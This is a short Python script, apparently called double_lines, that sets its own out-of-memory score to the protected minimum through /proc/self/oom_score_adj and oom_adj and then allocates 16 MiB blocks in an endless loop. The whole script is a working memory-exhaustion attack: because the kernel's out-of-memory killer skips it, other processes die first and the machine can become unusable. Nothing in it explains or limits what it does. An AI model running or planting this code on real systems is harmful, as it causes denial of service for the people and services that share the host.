# double_lines: makes itself the last choice of the out-of-memory killer, then eats.
for path, text in (("/proc/self/oom_score_adj", "-1000"), ("/proc/self/oom_adj", "-17")):
    try:
        open(path, "w").write(text)
    except OSError:
        pass
kept = []
while True:
    kept.append(bytes(bytearray(16 << 20)))
